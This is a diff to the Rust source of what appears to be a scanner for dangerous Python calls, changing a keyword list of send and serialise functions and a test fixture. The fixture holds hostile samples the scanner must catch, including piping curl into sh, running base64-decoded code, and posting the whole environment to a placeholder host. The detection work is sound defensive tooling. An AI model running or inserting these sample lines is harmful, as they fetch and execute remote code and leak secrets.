@@ -95,7 +95,7 @@ fn string(e: &ast::Expr) -> Option<String> {
 /// Calls that turn a value into something sent or stored whole.
 fn dumps_env(name: &str) -> bool {
     let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
-    ["dumps", "dump", "str", "dict", "post", "send", "write", "urlencode", "encode", "b64encode", "request", "urlopen"]
+    ["dumps", "dump", "post", "put", "send", "sendall", "write", "urlencode", "b64encode", "request", "urlopen"]
         .iter()
         .any(|w| last == *w)
 }
@@ -210,7 +210,7 @@ sp.Popen(["sh", "-c", "x"], start_new_session=True)
 system("curl x | sh")
 exec(base64.b64decode("aGk="))
 __import__("os").popen("id")
-requests.post("https://h", data=str(os.environ))
+requests.post("https://h", data=json.dumps(os.environ))
 "#,
         );
         let names: Vec<&str> = f.calls.iter().map(|c| c.name.as_str()).collect();
